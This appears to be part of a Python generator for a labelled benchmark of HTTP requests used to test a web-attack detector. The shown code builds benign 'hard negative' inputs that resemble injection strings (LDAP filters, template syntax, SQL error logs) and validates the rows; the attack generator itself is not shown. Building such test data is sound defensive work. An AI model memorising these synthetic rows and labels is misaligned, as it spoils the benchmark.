            pick(["EMEA", "APAC", "US", "Berlin", "Remote"]),
        )
        return BI(
            g,
            "json",
            host=host,
            path="/api/v1/groups",
            json={"name": P, "description": pick(SENT), "owners": [email_of(f, l)]},
        )
    if k == 3:
        t = "%s, %s (%s)" % (l, f, pick(["IT", "Contractor", "Intern", "Extern", "on leave"]))
        return BI(
            t,
            "form",
            host=host,
            path="/people/edit",
            form=[
                ("displayName", P),
                ("title", pick(["Engineer", "Manager", "Analyst"])),
                ("telephoneNumber", "+1 555 01%02d" % R.randrange(100)),
            ],
        )
    if k == 4 and R.random() < 0.5:
        t = "%s %s" % (f, l)
        return BI(
            t,
            "xml",
            host=host,
            style=bstyle(0.6),
            path="/soap/Directory",
            ctype="text/xml; charset=utf-8",
            xml='<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><FindPerson xmlns="urn:directory"><DisplayName>{}</DisplayName><MaxResults>%d</MaxResults></FindPerson></soap:Body></soap:Envelope>'
            % R.randrange(5, 50),
        )
    uid = (f[0] + l).lower().encode("ascii", "ignore").decode().replace("'", "").replace(" ", "")
    return BI(uid + str(R.randrange(1, 99)), "query", host=host, path="/api/v1/people", param="uid")


def ldap_hard():
    L = [
        ("(&(objectClass=person)(mail=*))", "json"),
        ("(memberOf=CN=VPN Users,OU=Groups,DC=corp,DC=example,DC=com)", "json"),
        ("(&(objectCategory=user)(!(userAccountControl:1.2.840.113556.1.4.803:=2)))", "json"),
        ("(|(department=Sales)(department=Marketing))", "json"),
        ("Smith (Contractor)", "query"),
        ("jo*", "query"),
        ("*son", "query"),
        ("Finance & Ops (EMEA)", "json"),
        ("Lee, Sam (IT)", "form"),
        ("O'Brien*", "query"),
        ("CN=O'Connor\\, Seán,OU=Legal,DC=corp,DC=example,DC=com", "json"),
        ("*admin*", "query"),
        ("(uid=%u)", "json"),
        ("ou=people,dc=corp,dc=example,dc=com", "json"),
        ("sAMAccountName", "query"),
        ("mail=*@acme-corp.com", "query"),
        ("Müller (Extern) / Projekt X", "form"),
        ("(cn=*)", "json"),
        ("Ng*, Nguyen*", "query"),
        ("R&D (Cambridge)", "json"),
        ("*", "query"),
        ("uid={0},ou=people,dc=corp,dc=example", "json"),
        ("(objectClass=inetOrgPerson)", "json"),
        ("\u7530\u4e2d*", "query"),
    ]
    out = []
    for v, at in L:
        host = pick(HOSTS["hr"])
        if at == "json":
            out.append(
                BI(
                    v,
                    at,
                    True,
                    host=host,
                    method="PUT",
                    path="/api/v1/admin/ldap-sync",
                    json={
                        "server": "ldaps://dc1.corp.example:636",
                        "setting": pick(["user_filter", "group_filter", "base_dn", "bind_template"]),
                        "value": P,
                    },
                )
            )
        elif at == "query":
            out.append(BI(v, at, True, host=host, path="/directory/search", param="q"))
        else:
            out.append(BI(v, at, True, host=host, path="/people/edit", form=[("displayName", P), ("dept", "Legal")]))
    return out


# ---------------------------------------------------------------- templates / i18n

I18N = [
    ("checkout.total", "Total: {amount}"),
    ("cart.items", "{count, plural, one {# item} other {# items}}"),
    ("greeting", "Hello, {{name}}!"),
    ("welcome", "Welcome back, %s"),
    ("errors.min", "Must be at least {0} characters"),
    ("orders.count", "%(count)d orders"),
    ("shipping.eta", "Arrives in ${days} days"),
    ("files.size", "%.1f MB of %d MB used"),
    ("invite", "{{inviter}} invited you to {{workspace}}"),
    ("reset", "Reset link expires in {minutes} minutes"),
    ("nav.home", "Home"),
    ("price.from", "from {price}"),
    ("date.range", "{start} – {end}"),
]
I18N_KEYS = ["checkout.total", "greeting", "welcome", "errors.min", "shipping.eta"]
TRANS = {
    "de": [
        "Gesamt: {amount}",
        "Hallo, {{name}}!",
        "Willkommen zurück, %s",
        "Mindestens {0} Zeichen",
        "Ankunft in ${days} Tagen",
    ],
    "fr": [
        "Total : {amount}",
        "Bonjour, {{name}} !",
        "Bon retour, %s",
        "Au moins {0} caractères",
        "Arrive dans ${days} jours",
    ],
    "ja": [
        "合計: {amount}",
        "こんにちは、{{name}}さん！",
        "おかえりなさい、%sさん",
        "{0}文字以上で入力してください",
        "${days}日後に到着",
    ],
    "ar": [
        "المجموع: {amount}",
        "مرحبًا، {{name}}!",
        "مرحبًا بعودتك، %s",
        "يجب ألا يقل عن {0} أحرف",
        "يصل خلال ${days} أيام",
    ],
    "es": [
        "Total: {amount}",
        "¡Hola, {{name}}!",
        "Bienvenido de nuevo, %s",
        "Debe tener al menos {0} caracteres",
        "Llega en ${days} días",
    ],
    "pt": [
        "Total: {amount}",
        "Olá, {{name}}!",
        "Bem-vindo de volta, %s",
        "Deve ter pelo menos {0} caracteres",
        "Chega em ${days} dias",
    ],
    "zh": ["合计：{amount}", "你好，{{name}}！", "欢迎回来，%s", "至少需要 {0} 个字符", "${days} 天内送达"],
    "he": ["סה״כ: {amount}", "שלום, {{name}}!", "ברוך שובך, %s", "לפחות {0} תווים", "יגיע בעוד ${days} ימים"],
    "ko": [
        "합계: {amount}",
        "안녕하세요, {{name}}님!",
        "다시 오신 것을 환영합니다, %s님",
        "{0}자 이상 입력하세요",
        "${days}일 후 도착",
    ],
}


def tpl_normal():
    host = pick(HOSTS["saas"] + HOSTS["dev"] + HOSTS["cms"])
    loc = pick(list(TRANS))
    r = R.random()
    if r < 0.45:
        if R.random() < 0.6:
            i = R.randrange(5)
            key, val = I18N_KEYS[i], TRANS[loc][i]
        else:
            key, val = pick(I18N)
            loc = "en"
        return BI(
            val,
            "json",
            host=host,
            method="PUT",
            path="/api/v1/projects/%d/translations/%s" % (R.randrange(1, 50), loc),
            json={"key": key, "value": P, "context": pick(["", "button", "email subject", "checkout page"])},
        )
    if r < 0.58:
        key = "%s.%s.%s" % (
            pick(["checkout", "account", "errors", "nav", "emails", "orders", "settings"]),
            pick(WORDS),
            pick(["title", "label", "help_text", "placeholder", "cta"]),
        )
        return BI(
            key,
            "json_key",
            host=host,
            method="PATCH",
            path="/api/v1/i18n/%s/messages" % loc,
            json={"locale": loc, "messages": {"common.save": P}},
            filler={
                "de": "Speichern",
                "fr": "Enregistrer",
                "ja": "保存",
                "ar": "حفظ",
                "es": "Guardar",
                "pt": "Salvar",
                "zh": "保存",
                "he": "שמור",
                "ko": "저장",
            }[loc],
            kv=pick(TRANS[loc]),
        )
    if r < 0.75:
        d = {}
        for i in R.sample(range(5), R.randrange(2, 6)):
            d[I18N_KEYS[i]] = TRANS[loc][i]
        d["meta.updated"] = ts()
        return BI(d, "json", host=host, path="/api/v1/i18n/%s/import" % loc, style=bstyle(0.5))
    tpl = "%s {{ %s }}%s" % (
        pick(["Hi", "Hey", "Dear", "Hallo"]),
        pick(["customer.first_name", "user.name", "contact.firstName", "first_name | default: 'there'"]),
        pick(
            [
                ", your order {{ order.number }} is on its way!",
                "! Your trial ends on {{ trial_end | date: '%B %d' }}.",
                ", thanks for joining {{ shop.name }}.",
                "! Here's {{ discount }}% off your next order.",
            ]
        ),
    )
    return BI(
        tpl,
        "json",
        host=pick(HOSTS["shop"] + HOSTS["saas"]),
        path="/api/v1/email-templates/%d" % R.randrange(1, 400),
        method="PATCH",
        json={"subject": P, "from_name": pick(COMPANIES)},
    )


def tpl_hard():
    L = [
        '{{#if order.shipped}}Your order shipped on {{formatDate order.shippedAt "short"}}.{{else}}We\'re preparing your order.{{/if}}',
        "{% if cart.items | size > 1 %}You have {{ cart.items | size }} items{% else %}You have one item{% endif %}",
        "${user.firstName}, your balance is ${account.balance?string.currency}",
        "{{ .Name }} deployed {{ .Version }} to {{ .Env }}",
        "{{ $t('nav.home') }} | {{ $t('nav.orders', { count: orders.length }) }}",
        "<%= t('.title') %>",
        "Hello #{name}, welcome to #{company}!",
        "{0} uploaded {1} file(s) to {2}",
        "%1$s commented on %2$s",
        "{{> header}}{{{body}}}{{> footer}}",
        "{{ product.title | escape }} — {{ product.price | money_with_currency }}",
        "@{name} mentioned you in #{channel}",
        "Dear ${salutation} ${lastName}, please confirm by ${deadline}.",
        "{% for item in order.items %}- {{ item.qty }} x {{ item.name }}\n{% endfor %}",
        "Your code is {{code}}. It expires in {{minutes}} min. Don't share it.",
        "{{7}} days left in your trial",
        "Use {{double braces}} for variables and {% raw %}{% tags %}{% endraw %} for logic.",
        "${{price}} per month",
        "Hi %NAME%, your ticket %TICKET_ID% was updated.",
        "[[user_name]] invited you — accept before [[expiry_date]]",
        "{{ 'welcome_message' | t: name: customer.first_name }}",
        "<#if user.premium>Thanks for being premium!</#if>",
        "{{#each items}}<li>{{this.name}} ({{this.qty}})</li>{{/each}}",
        "Preis: {{ price | number_format(2, ',', '.') }} €",
    ]
    out = []
    for i, v in enumerate(L):
        host = pick(HOSTS["saas"] + HOSTS["shop"] + HOSTS["cms"])
        if i % 2:
            out.append(
                BI(
                    v,
                    "json",
                    True,
                    host=host,
                    method="PUT",
                    path="/api/v1/templates/%d" % R.randrange(1, 900),
                    json={
                        "name": pick(["order_shipped", "welcome", "trial_ending", "mention", "deploy_notice"]),
                        "body": P,
                        "engine": pick(["handlebars", "liquid", "jinja", "freemarker", "icu"]),
                    },
                )
            )
        else:
            out.append(
                BI(
                    v,
                    "form",
                    True,
                    host=host,
                    path="/admin/notifications/edit",
                    form=[("template_id", str(R.randrange(1, 99))), ("body", P), ("save", "Save")],
                )
            )
    return out


# ---------------------------------------------------------------- logs / stack traces


def log_normal():
    k = R.randrange(6)
    svc = pick(["billing-api", "checkout", "worker", "auth", "search-indexer", "notifications"])
    t = ts()
    if k == 0:
        txt = "%s INFO  [%s] Processed %d jobs in %.1fs (queue=%s)" % (
            t,
            svc,
            R.randrange(1, 900),
            R.uniform(0.1, 30),
            pick(["default", "emails", "exports"]),
        )
    elif k == 1:
        txt = (
            'Traceback (most recent call last):\n  File "/app/%s/views.py", line %d, in get\n    return self.serialize(obj["%s"])\nKeyError: \'%s\''
            % (svc.replace("-", "_"), R.randrange(10, 400), pick(WORDS), pick(WORDS))
        )
    elif k == 2:
        cls = pick(["OrderService", "InvoiceMapper", "CartController", "TokenFilter"])
        txt = (
            'java.lang.NullPointerException: Cannot invoke "String.length()" because "name" is null\n\tat com.acme.%s.%s.validate(%s.java:%d)\n\tat com.acme.%s.%s.handle(%s.java:%d)\n\tat java.base/java.util.ArrayList.forEach(ArrayList.java:1596)'
            % (
                svc.replace("-", ""),
                cls,
                cls,
                R.randrange(20, 300),
                svc.replace("-", ""),
                cls,
                cls,
                R.randrange(20, 300),
            )
        )
    elif k == 3:
        txt = (
            "Uncaught TypeError: Cannot read properties of undefined (reading '%s')\n    at %s (https://%s/static/js/main.%s.js:2:%d)"
            % (
                pick(["map", "length", "id", "items"]),
                pick(["renderList", "onSubmit", "t.value"]),
                pick(ALL_HOSTS),
                rhex(8),
                R.randrange(1000, 99999),
            )
        )
    elif k == 4:
        txt = (
            '%s WARN %s: upstream timed out (110: Connection timed out) while reading response header from upstream, request: "GET /api/v1/%s HTTP/1.1"'
            % (t, svc, pick(WORDS))
        )
    else:
        txt = (
            "Warning  BackOff  %dm (x%d over %dm)  kubelet  Back-off restarting failed container %s in pod %s-%s-%s"
            % (R.randrange(1, 59), R.randrange(2, 40), R.randrange(5, 120), svc, svc, rhex(10), rs(5))
        )
    host = pick(HOSTS["saas"] + HOSTS["dev"])
    r = R.random()
    if r < 0.55:
        return BI(
            txt,
            "json",
            host=host,
            path="/api/v1/support/tickets",
            json={
                "subject": pick(
                    ["Error after update", "App crashes", "Deploy failing", "500 on checkout", "Fehler beim Export"]
                ),
                "description": P,
                "severity": pick(["low", "normal", "high"]),
            },
        )
    if r < 0.8:
        return BI(
            txt,
            "mp_file",
            host=host,
            path="/api/v1/support/tickets/%d/attachments" % R.randrange(1000, 9999),
            mp={"fields": [("note", "log attached")], "file": ("file", "%s.log" % svc, "text/plain", "")},
        )
    return BI(
        txt,
        "form",
        host=host,
        path="/support/new",
        form=[("email", email_of(*person())), ("summary", "See log"), ("details", P)],
    )


def log_hard():
    L = [
        "SQLSTATE[42000]: Syntax error or access violation: 1064 You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near 'Brien' AND active=1' at line 1",
        "ERROR:  syntax error at or near \"'\"\nLINE 1: SELECT * FROM customers WHERE last_name = 'O'Connor'\n                                                     ^",
        'ORA-00933: SQL command not properly ended\nORA-06512: at "APP.REPORTS_PKG", line 212',
        "org.springframework.expression.spel.SpelEvaluationException: EL1008E: Property or field 'nme' cannot be found on object of type 'com.acme.User' - maybe not public or not valid?\n\tat org.springframework.expression.spel.ast.PropertyOrFieldReference.readProperty(PropertyOrFieldReference.java:229)",
        '<PatternLayout pattern="%d{HH:mm:ss.SSS} [%t] %-5level %logger{36} - %msg%n"/>',
        "logging.file.name=${LOG_DIR:/var/log/app}/app.log",
        '203.0.113.5 - - [06/Dec/2026:10:12:33 +0000] "GET /search?q=wool+socks&page=2 HTTP/2.0" 200 5123 "https://shop.larkspur-goods.com/" "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X)"',
        'Caused by: org.hibernate.exception.SQLGrammarException: could not execute statement\n\tat org.hibernate.exception.internal.SQLStateConversionDelegate.convert(SQLStateConversionDelegate.java:103)\nCaused by: org.postgresql.util.PSQLException: ERROR: relation "order_items" does not exist',
        "sh: 1: convert: not found\nError: Command failed: convert /tmp/upload_8812.png -resize 50% /tmp/thumb_8812.png",
        "FileNotFoundError: [Errno 2] No such file or directory: '../config/settings.local.yml'",
        "PHP Warning:  include(/var/www/html/themes/summer/header.php): Failed to open stream: No such file or directory in /var/www/html/index.php on line 14",
        "javax.naming.NameNotFoundException: Name [jdbc/AppDS] is not bound in this Context. Unable to find [jdbc].",
        "Error: ENOENT: no such file or directory, open '/app/node_modules/.cache/babel-loader/a1b2c3.json'\n    at Object.openSync (node:fs:573:18)",
        "Dec 06 10:12:33 web-1 sshd[2211]: Failed password for invalid user admin from 198.51.100.77 port 52144 ssh2",
        "WARN  o.a.c.c.C.[Tomcat].[localhost] - Exception Processing /api/v1/export?from=2026-11-01&to=2026-11-30\njava.lang.IllegalArgumentException: Invalid character found in the request target [/api/v1/export?name=a|b]",
        "jinja2.exceptions.UndefinedError: 'dict object' has no attribute 'first_name'\n  File \"templates/email/welcome.html\", line 3, in top-level template code\n    Hi {{ user.first_name }},",
        "Template error: unexpected token '%}' in \"{% if order.total > 100 %}Free shipping{% endif %\" at line 1",
        "ldap3.core.exceptions.LDAPInvalidFilterError: malformed filter: (&(objectClass=user)(cn=Lee, Sam (IT)))",
        "SMTP 550 5.1.1 <kim.park@company.co.jp>: Recipient address rejected: User unknown in virtual mailbox table",
        "curl: (7) Failed to connect to localhost port 8080 after 0 ms: Couldn't connect to server",
        "Error: getaddrinfo ENOTFOUND metadata.internal.acme\n    at GetAddrInfoReqWrap.onlookup [as oncomplete] (node:dns:109:26)",
        "2026-12-06T10:12:33Z ERROR xml parse failed: undefined entity &nbsp; at line 4, column 17 (feed: partner-news.xml)",
        'Exception in thread "main" java.lang.reflect.InvocationTargetException\n\tat java.base/jdk.internal.reflect.DirectMethodHandleAccessor.invoke(DirectMethodHandleAccessor.java:118)\n\tat java.base/java.lang.reflect.Method.invoke(Method.java:580)',
        "Mixed Content: The page at 'https://app.quillbase.io/settings' was loaded over HTTPS, but requested an insecure script 'http://cdn.example-widgets.com/w.js'. This request has been blocked.",
    ]
    out = []
    for i, v in enumerate(L):
        host = pick(HOSTS["saas"] + HOSTS["dev"])
        if i % 3 == 0:
            out.append(
                BI(
                    v,
                    "form",
                    True,
                    host=host,
                    path="/support/new",
                    form=[
                        ("email", email_of(*person())),
                        ("summary", pick(["Error when searching", "Export broken", "Crash"])),
                        ("details", P),
                    ],
                )
            )
        else:
            out.append(
                BI(
                    v,
                    "json",
                    True,
                    host=host,
                    path="/api/v1/support/tickets",
                    json={
                        "subject": pick(
                            ["Error after upgrade", "Stack trace attached", "Help!", "Production incident"]
                        ),
                        "description": P,
                        "severity": "high",
                    },
                )
            )
    return out


BENIGN = [
    ("benign_richtext", rich_hard, rich_normal),
    ("benign_markdown", md_hard, md_normal),
    ("benign_code", code_hard, code_normal),
    ("benign_search", search_hard, search_normal),
    ("benign_graphql", gql_hard, gql_normal),
    ("benign_files", files_hard, files_normal),
    ("benign_urls", url_hard, url_normal),
    ("benign_base64", b64_hard, b64_normal),
    ("benign_api_json", api_hard, api_normal),
    ("benign_forms", form_hard, form_normal),
    ("benign_headers", hdr_hard, hdr_normal),
    ("benign_email", email_hard, email_normal),
    ("benign_ldap_like", ldap_hard, ldap_normal),
    ("benign_templates", tpl_hard, tpl_normal),
    ("benign_logs", log_hard, log_normal),
]


def gen_benign():
    rows = []
    seen = set()
    nk = len(BENIGN)
    for idx, (cat, hard_fn, norm_fn) in enumerate(BENIGN):
        n = N_BENIGN // nk + (1 if idx < N_BENIGN % nk else 0)
        items = []
        for b in hard_fn()[: n // 3 + 1]:
            key = b.payload if isinstance(b.payload, str) else jcompact(b.payload)
            assert key not in seen, (cat, key)
            seen.add(key)
            items.append(b)
        assert n // 3 - 2 <= len(items) <= n // 3 + 1, (cat, len(items))
        tries = 0
        while len(items) < n:
            b = norm_fn()
            tries += 1
            assert tries < 5000, cat
            key = b.payload if isinstance(b.payload, str) else jcompact(b.payload)
            if key in seen:
                continue
            if b.at == "header" and not ascii_header_ok(b.payload):
                continue
            seen.add(key)
            items.append(b)
        order = list(range(len(items)))
        R.shuffle(order)
        for j, oi in enumerate(order):
            b = items[oi]
            spec = dict(b.spec)
            spec.setdefault("enc", pick(["std", "std", "plus"]))
            spec.setdefault("jmode", pick([None, None, None, "ascii"]))
            style = b.style or bstyle()
            host = b.host or pick(ALL_HOSTS)
            if b.at == "header":
                assert ascii_header_ok(b.payload), b.payload
            req = make_request(b.at, b.payload, style, host, spec)
            rows.append(row("%s-b-%s-%04d" % (SRC, cat, j + 1), "benign", cat, req, b.payload, b.hard))
    return rows


# --------------------------------------------------------------------------
# validation
# --------------------------------------------------------------------------

KEYS = [
    "id",
    "label",
    "category",
    "method",
    "path",
    "query",
    "headers",
    "body",
    "placement",
    "payload",
    "hard",
    "source",
]


def _json_find(obj, p, keys_only=False):
    if isinstance(obj, dict):
        for k, v in obj.items():
            if k == p:
                return True
            if not keys_only and (v == p or (isinstance(v, (dict, list)) and jcompact(v) == p)):
                return True
            if _json_find(v, p, keys_only):
                return True
    elif isinstance(obj, list):
        if not keys_only and jcompact(obj) == p:
            return True
        for v in obj:
            if not keys_only and (v == p or (isinstance(v, (dict, list)) and jcompact(v) == p)):
                return True
            if _json_find(v, p, keys_only):
                return True
    return False


def parse_multipart(body, ctype):
    m = re.match(r"multipart/form-data; boundary=(\S+)$", ctype)
    assert m, ctype
    b = m.group(1)
    segs = body.split("--" + b)
    assert segs[0] == "" and segs[-1] == "--\r\n", "bad multipart framing"
    parts = []
    for s in segs[1:-1]:
        assert s.startswith("\r\n") and s.endswith("\r\n"), "bad part framing"
        head, sep, content = s[2:-2].partition("\r\n\r\n")
        assert sep
        lines = head.split("\r\n")
        m2 = re.match(r'Content-Disposition: form-data; name="([^"]*)"(?:; filename="([^"]*)")?$', lines[0])
        assert m2, lines[0]
        for ln in lines[1:]:
            assert ln.startswith("Content-Type: "), ln
        parts.append((m2.group(1), m2.group(2), content))
    msg = BytesParser(policy=_email_policy.HTTP).parsebytes(
        ("Content-Type: %s\r\n\r\n" % ctype).encode() + body.encode("utf-8")
    )
    assert msg.is_multipart() and len(msg.get_payload()) == len(parts), "email package disagrees"
    return parts


def xml_ok(text):
    p = xml.parsers.expat.ParserCreate()
    try:
        p.Parse(text.encode("utf-8"), True)
        return True
    except (xml.parsers.expat.ExpatError, ValueError):
        return False


def xml_text_of(text):
    out = []
    p = xml.parsers.expat.ParserCreate()
    p.CharacterDataHandler = out.append
    p.Parse(text.encode("utf-8"), True)
    return "".join(out)


def validate(rows):
    ids = set()
    pay = {"attack": set(), "benign": set()}
    stats = {"xxe_not_wellformed": 0}
    for r in rows:
        assert list(r.keys()) == KEYS, r["id"]
        assert r["id"] not in ids, r["id"]
        ids.add(r["id"])
        assert r["source"] == SRC and r["label"] in ("attack", "benign")
        h = r["headers"]
        assert list(h)[:3] == ["Host", "User-Agent", "Accept"], r["id"]
        for k, v in h.items():
            assert isinstance(v, str) and all(0x20 <= ord(c) <= 0x7E for c in v), (r["id"], k)
            assert all(0x21 <= ord(c) <= 0x7E for c in k) and ":" not in k, (r["id"], k)
        assert r["path"].startswith("/") and all(0x21 <= ord(c) <= 0x7E for c in r["path"]), r["id"]
        assert all(0x21 <= ord(c) <= 0x7E for c in r["query"]), r["id"]
        p = r["payload"]
        assert isinstance(p, str) and p, r["id"]
        assert p not in pay[r["label"]], ("duplicate payload", r["id"])
        pay[r["label"]].add(p)
        body, ct, pl = r["body"], h.get("Content-Type", ""), r["placement"]
        if body:
            assert ct, r["id"]
        if ct.startswith("application/json"):
            obj = json.loads(body)
            if pl == "json":
                assert jcompact(obj) == p or _json_find(obj, p), r["id"]
            elif pl == "json_key":
                assert _json_find(obj, p, keys_only=True), r["id"]
        elif ct.startswith("multipart/form-data"):
            parts = parse_multipart(body, ct)
            if pl == "multipart":
                assert any(p == c or p == fn for _n, fn, c in parts), r["id"]
        elif ct.startswith("application/x-www-form-urlencoded"):
            pairs = parse_qsl(body, keep_blank_values=True, strict_parsing=True)
            if pl == "form":
                assert any(p == k or p == v for k, v in pairs), r["id"]
        elif body:
            assert "xml" in ct, (r["id"], ct)
            if body == p:
                if not xml_ok(body):
                    assert r["category"] == "xxe", r["id"]
                    stats["xxe_not_wellformed"] += 1
            else:
                assert xml_ok(body), r["id"]
                if pl == "xml":
                    assert p in xml_text_of(body), r["id"]
        if pl in ("query", "query_key"):
            pairs = parse_qsl(r["query"], keep_blank_values=True)
            idx = 1 if pl == "query" else 0
            assert any(x[idx] == p for x in pairs), r["id"]
        elif pl == "path":
            assert p in unquote(r["path"]), r["id"]
        elif pl == "header":
            assert p in h.values(), r["id"]
        elif pl == "cookie":
            ck = [unquote(c.split("=", 1)[1]) for c in h["Cookie"].split("; ") if "=" in c]
            assert p in ck, r["id"]
        if r["label"] == "benign" and "xml" in ct:
            assert xml_ok(body), r["id"]
    assert not (pay["attack"] & pay["benign"]), "payload shared by attack and benign rows"
    return stats


def main():
    rows = gen_attacks() + gen_benign()
    stats = validate(rows)
    lines = []
    for r in rows:
        s = json.dumps(r, ensure_ascii=False)
        s = s.replace("\u2028", "\\u2028").replace("\u2029", "\\u2029").replace("\x85", "\\u0085")
        assert "\n" not in s and "\r" not in s
        lines.append(s)
    data = ("\n".join(lines) + "\n").encode("utf-8")
    with open(OUT, "wb") as f:
        f.write(data)
    counts = {}
    for r in rows:
        key = (r["label"], r["category"])
        c = counts.setdefault(key, [0, 0])
        c[0] += 1
        c[1] += r["hard"]
    for (label, cat), (n, hd) in sorted(counts.items()):
        print("%-7s %-22s %4d  hard %3d" % (label, cat, n, hd))
    print(
        "attack %d, benign %d, total %d; xxe documents not well-formed: %d"
        % (
            sum(1 for r in rows if r["label"] == "attack"),
            sum(1 for r in rows if r["label"] == "benign"),
            len(rows),
            stats["xxe_not_wellformed"],
        )
    )
    print("sha256 %s  %s" % (hashlib.sha256(data).hexdigest(), os.path.relpath(OUT)))


if __name__ == "__main__":
    main()
